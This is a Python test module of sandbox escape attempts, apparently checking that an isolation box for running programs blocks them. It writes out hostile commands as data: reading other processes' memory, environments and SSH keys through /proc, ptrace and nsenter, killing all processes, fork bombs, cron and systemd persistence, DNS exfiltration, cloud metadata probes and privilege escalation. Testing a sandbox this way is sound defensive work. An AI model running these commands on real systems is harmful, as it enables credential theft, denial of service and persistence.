"""Attempts by system calls: against processes, sockets, the network, mounts, and to stay."""

from __future__ import annotations

from tests.box.attempts.attempt import Attempt, python

CONNECT = """
import os, socket
def say(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(b"hello")
            print("reached", address)
    except OSError as error:
        print("failed", error)
"""
SYSCALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    done = getattr(libc, name)(*args)
    print(name, done, os.strerror(ctypes.get_errno()) if done < 0 else "DONE")
"""

PROCESSES = (
    Attempt(
        "look-into-process",
        "processes",
        "Look into a process outside: its environment, its root, its files and its memory.",
        "{ for n in $VICTIM $(ls /proc | grep '^[0-9]'); do cat /proc/$n/environ; "
        "cat /proc/$n/root$HOST/.ssh/id; cat /proc/$n/cwd/.ssh/id /proc/$n/cwd/id; "
        "timeout 2 cat /proc/$n/fd/* & head -c 100 /proc/$n/mem; "
        "cat /proc/$n/task/*/environ; done; wait; } < /dev/null | tr '\\0' '\\n'",
        by_landlock=3,
    ),
    Attempt(
        "trace-process",
        "processes",
        "Attach to a process outside as a debugger, and read its memory.",
        python(
            SYSCALL
            + """
pid = int(os.environ["VICTIM"])
call("ptrace", 16, pid, 0, 0)
call("ptrace", 0x4206, pid, 0, 0)
buffer = ctypes.create_string_buffer(64)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here, there = Part(ctypes.addressof(buffer), 64), Part(0x400000, 64)
call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
call("syscall", 434, pid, 0)
call("syscall", 438, libc.syscall(434, pid, 0), 0, 0)
"""
        ),
        by_landlock=3,
    ),
    Attempt(
        "end-process",
        "processes",
        "End, stop and renice a process outside.",
        "kill -9 $VICTIM; kill -STOP $VICTIM; kill -9 -- -$VICTIM; renice 19 $VICTIM; "
        "kill -9 $PPID; true",
        by_landlock=6,
    ),
    Attempt(
        "end-all",
        "processes",
        "End every process that can be seen.",
        # Where the others of the machine could be seen, it is not tried.
        "echo tried; [ $(ls /proc | grep -c '^[0-9]') -lt 20 ] && kill -9 -1",
        worked="tried",
    ),
    Attempt(
        "join-namespaces",
        "processes",
        "Join the namespaces of a process outside, and enter its root.",
        "for n in 1 $VICTIM $PPID; do nsenter -t $n -a cat $HOST/.ssh/id; nsenter -t $n -m -U cat "
        "$HOST/.ssh/id; nsenter -t $n -U --preserve-credentials id; chroot /proc/$n/root cat "
        "$HOST/.ssh/id; done; ls -l /proc/self/ns",
        by_landlock=3,
    ),
    Attempt(
        "keyring",
        "processes",
        "Read keys that the kernel keeps for the user's login.",
        python(
            SYSCALL
            + """
for ring in (-1, -2, -3, -4, -5):
    buffer = ctypes.create_string_buffer(4096)
    found = libc.syscall(250, 11, ring, buffer, 4096)
    for n in range(0, max(0, min(found, 4096)), 4):
        key = int.from_bytes(buffer.raw[n:n + 4], "little", signed=True)
        value = ctypes.create_string_buffer(4096)
        size = libc.syscall(250, 11, key, value, 4096)
        print(ring, key, value.raw[:max(0, min(size, 100))])
key = libc.syscall(250, 10, -3, b"user", b"manyhands-escape", 0)
value = ctypes.create_string_buffer(4096)
print(libc.syscall(250, 11, key, value, 4096), value.value)
"""
        ),
    ),
)

SOCKETS = (
    Attempt(
        "ssh-agent",
        "sockets",
        "Ask the user's ssh agent to sign.",
        "ssh-add -l; " + python(CONNECT + 'say(socket.AF_UNIX, os.environ["SOCKETS"] + "/agent")'),
    ),
    Attempt(
        "docker",
        "sockets",
        "Have Docker start a container with the whole machine in it.",
        "docker -H unix://$SOCKETS/docker ps; ls -l /var/run/docker.sock; "
        + python(
            CONNECT + 'for path in (os.environ["SOCKETS"] + "/docker", "/var/run/docker.sock"):\n'
            "    say(socket.AF_UNIX, path)"
        ),
    ),
    Attempt(
        "session-bus",
        "sockets",
        "Have the desktop or systemd start a program, over D-Bus.",
        "systemd-run --user $EVIL; dbus-send --session /x a.b; echo $DBUS_SESSION_BUS_ADDRESS; "
        + python(
            CONNECT + 'for path in (os.environ["SOCKETS"] + "/bus", "/run/dbus/system_bus_socket", '
            '"/run/systemd/private"):\n    say(socket.AF_UNIX, path)'
        ),
    ),
    Attempt(
        "hub-socket",
        "sockets",
        "Speak to the sockets of the hub and of other sessions' keepers.",
        python(CONNECT + 'say(socket.AF_UNIX, os.environ["HUBS"] + "/s2.sock")'),
    ),
    Attempt(
        "abstract-socket",
        "sockets",
        "Connect to an abstract Unix socket, as X servers have one, without a network.",
        python(CONNECT + 'say(socket.AF_UNIX, "\\0" + os.environ["ABSTRACT"])'),
        network="none",
        by_landlock=6,
    ),
    Attempt(
        "abstract-socket-open",
        "sockets",
        "Connect to an abstract Unix socket with an open network.",
        python(CONNECT + 'say(socket.AF_UNIX, "\\0" + os.environ["ABSTRACT"])'),
        by_landlock=6,
    ),
)

_LOOPBACK = python(
    CONNECT
    + """
port = int(os.environ["TCP"])
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
                     (socket.AF_INET6, "::ffff:127.0.0.1"), (socket.AF_INET, "0.0.0.0")):
    say(family, (host, port))
"""
)
_DATAGRAM = python(
    CONNECT
    + 'say(socket.AF_INET, ("127.0.0.1", int(os.environ["UDP"])), socket.SOCK_DGRAM)\n'
    + 'say(socket.AF_INET6, ("::1", int(os.environ["UDP"])), socket.SOCK_DGRAM)'
)

NETWORK = (
    Attempt(
        "tcp",
        "network",
        "Reach a service of this machine by TCP where there is no network.",
        f"curl -sS -m 3 http://127.0.0.1:$TCP/; {_LOOPBACK}",
        network="none",
        by_landlock=4,
    ),
    Attempt(
        "udp",
        "network",
        "Send datagrams where there is no network.",
        _DATAGRAM,
        network="none",
    ),
    Attempt(
        "dns",
        "network",
        "Send something away as a name that is looked up.",
        "getent hosts secret.example.com; "
        + python(
            CONNECT
            + """
servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
for server in servers + ["127.0.0.53", "8.8.8.8"]:
    say(socket.AF_INET, (server, 53), socket.SOCK_DGRAM)
    say(socket.AF_INET, (server, 53))
"""
        ),
        network="none",
    ),
    Attempt(
        "make-interface",
        "network",
        "Make a network of its own that leads out: interfaces, routes, raw sockets.",
        "ip link add v type veth; ip link set eth0 up; ip route add default dev lo; "
        + python(
            CONNECT
            + """
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1)
        print("DONE raw")
    except OSError as error:
        print(error)
"""
        ),
        network="none",
        unsaid=("WROTE", "DONE"),
    ),
    Attempt(
        "unlisted-host",
        "network",
        "Reach a host that is not listed: by the proxy, past it, and by its address.",
        "curl -sS -m 5 http://unlisted.test:$TCP/; curl -sS -m 5 https://unlisted.test/;"
        "curl -sS -m 5 --noproxy '*' http://127.0.0.1:$TCP/; curl -sS -m 5 -H 'Host: listed.test' "
        "http://unlisted.test:$TCP/; curl -sS -m 5 http://169.254.169.254/latest/;"
        f"{_LOOPBACK}{_DATAGRAM}",
        network="listed",
    ),
    Attempt(
        "loopback-by-proxy",
        "network",
        "Have the proxy connect to this machine, by any way to write its address.",
        "for h in 127.0.0.1 localhost 127.1 2130706433 0x7f000001 [::1] [::ffff:127.0.0.1] 0.0.0.0 "
        "localhost.localdomain; do curl -sS -m 5 --noproxy '' -x $HTTP_PROXY http://$h:$TCP/; "
        "curl -sS -m 5 --noproxy '' -p -x $HTTP_PROXY http://$h:$TCP/; done; echo tried",
        network="listed",
        worked="tried",
    ),
)

MOUNTS = (
    Attempt(
        "mount",
        "mounts",
        "Mount something: a fresh file system, a directory over another, the disk.",
        "mount -t tmpfs x /mnt; mount --bind / $PWD; mount -t proc p $PWD; mount -t overlay o "
        "-o lowerdir=/,upperdir=$PWD,workdir=/tmp $PWD; mount $(ls /dev/[svn]d* 2>/dev/null) /mnt;"
        "mount -t sysfs s $PWD; mount --move /usr $PWD; ls $PWD; "
        + python(
            SYSCALL
            + """
call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
call("syscall", 430, b"tmpfs", 0)
call("syscall", 428, -100, b"/", 1)
call("syscall", 429, -100, b"/usr", -100, b"/tmp", 0)
call("open_by_handle_at", -1, None, 0)
"""
        ),
        unsaid=("WROTE", "DONE"),
    ),
    Attempt(
        "unmount",
        "mounts",
        "Take mounts away, so that what they cover is seen.",
        "umount .git; umount -l .git; umount -l $HOST; umount -l /tmp; umount -l /run; umount /sys;"
        "umount -R -l /; cat .git; cat $HOST/.ssh/id; ls /oldroot /newroot",
    ),
    Attempt(
        "remount",
        "mounts",
        "Make what is read-only writable.",
        "for p in / /usr /etc .git $HOST/.local/bin $REPO/.git/objects; do "
        "mount -o remount,rw,bind $p; mount -o remount,rw $p; done; touch /usr/made; "
        "echo x >> $HOST/.local/bin/tool; echo gitdir: $PWD/x > .git",
    ),
    Attempt(
        "namespaces",
        "mounts",
        "Make namespaces of its own, in which it would be root.",
        "unshare -Ur mount -t tmpfs x /mnt; unshare -Urm sh -c 'mount --bind / /mnt; umount -l /';"
        "unshare -m true; unshare -n true; unshare -p true; bwrap --bind / / true; "
        + python(
            SYSCALL
            + """
call("unshare", 0x10000000)
call("unshare", 0x00020000)
call("unshare", 0x40000000)
"""
        ),
        unsaid=("WROTE", "DONE"),
    ),
    Attempt(
        "change-root",
        "mounts",
        "Change the root to another and climb out of it.",
        "mkdir -p jail/old; pivot_root jail jail/old; chroot jail sh -c true; "
        + python(
            SYSCALL
            + """
call("chroot", b"jail")
call("pivot_root", b"jail", b"jail/old")
call("syscall", 155, b"jail", b"jail/old")
try:
    os.chdir("../" * 30)
    print(sorted(os.listdir("."))[:3], open(os.environ["HOST"][1:] + "/.ssh/id").read())
except OSError as error:
    print(error)
"""
        ),
        by_landlock=3,
        unsaid=("WROTE", "DONE"),
    ),
    Attempt(
        "devices",
        "mounts",
        "Make devices of disks and memory, and read those that are there.",
        "mknod disk b 8 0; mknod mem c 1 1; mknod kmsg c 1 11; cat disk mem | head -c 100; "
        "ls /dev; head -c 100 /dev/sda /dev/vda /dev/nvme0n1 /dev/mem /dev/kmsg; ls -l disk mem",
        by_landlock=3,
    ),
    Attempt(
        "privileges",
        "mounts",
        "Become another user by programs that run as their owner, and take capabilities.",
        "cp /bin/sh mine; chmod 4755 mine; ./mine -p -c id; sudo -n id; su -c id < /dev/null;"
        "setpriv --reuid 0 --clear-groups id; capsh --print; setcap cap_sys_admin+ep mine; "
        "newgrp root < /dev/null; grep -E 'CapEff|NoNewPrivs' /proc/self/status; "
        + python(
            SYSCALL + 'call("setuid", 12345)\ncall("setgid", 12345)\ncall("sethostname", b"x", 1)'
        ),
        unsaid=("WROTE", "DONE"),
    ),
    Attempt(
        "kernel-settings",
        "mounts",
        "Write to the kernel's settings: have it run a program at the next crash, load a module.",
        # With what is there already, so that nothing is changed where it succeeds.
        "for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe "
        "/proc/sys/vm/overcommit_memory /proc/sys/kernel/randomize_va_space "
        "/proc/sys/net/ipv4/ip_forward /proc/sys/fs/file-max "
        "/sys/kernel/uevent_helper /sys/kernel/mm/transparent_hugepage/khugepaged/defrag "
        "/proc/irq/default_smp_affinity /sys/fs/cgroup/cgroup.subtree_control; do "
        "was=$(cat $f) && printf '%s\\n' \"$was\" > $f && echo WROTE $f; done; "
        + python(
            """
import os
PASSED = ("self", "thread-self", "pressure")
for top, folders, files in os.walk("/proc"):
    folders[:] = [name for name in folders if not name.isdigit() and name not in PASSED]
    for name in files:
        path = os.path.join(top, name)
        if top != "/proc" and os.access(path, os.W_OK) and os.stat(path).st_mode & 0o222:
            try:
                os.close(os.open(path, os.O_WRONLY))
                print("WROTE", path)
            except OSError:
                pass
"""
        ),
        by_landlock=3,
    ),
)

SURVIVAL = (
    Attempt(
        "daemon",
        "survival",
        "Stay behind as a daemon in a session of its own, by forking twice.",
        "setsid sh -c 'setsid sleep 1000 & sleep 1000' > /dev/null 2>&1 & "
        "nohup sleep 1000 > /dev/null 2>&1 & "
        + python(
            """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)
        time.sleep(1000)
    os._exit(0)
os.wait()
print("tried")
"""
        ),
        worked="tried",
    ),
    Attempt(
        "schedule",
        "survival",
        "Have the system run something later: cron, at, systemd, autostart.",
        "echo '* * * * * '$EVIL | crontab -; echo $EVIL | at now; systemd-run --on-active=1 $EVIL;"
        "systemctl --user enable $EVIL; echo $EVIL > /etc/cron.d/x; mkdir -p "
        "/var/spool/cron/crontabs && echo $EVIL > /var/spool/cron/crontabs/root; "
        "echo $EVIL > /etc/rc.local; loginctl enable-linger; batch < $EVIL; true",
    ),
    Attempt(
        "fork-bomb",
        "survival",
        "Fork until nobody else can.",
        # Root is not counted: for root, it only must not outlive the box.
        "n=0; while [ $n -lt 400 ]; do sleep 1000 & n=$((n + 1)); done; "
        "[ $(id -u) = 0 ] || echo WROTE them all",
    ),
    Attempt(
        "refuse-to-end",
        "survival",
        "Ignore every signal, and take up being ended by restarting.",
        "for n in 1 2 3; do (trap '' HUP INT TERM QUIT; while :; do sleep 1; done) & done; "
        "echo tried; exit 0",
        worked="tried",
    ),
)
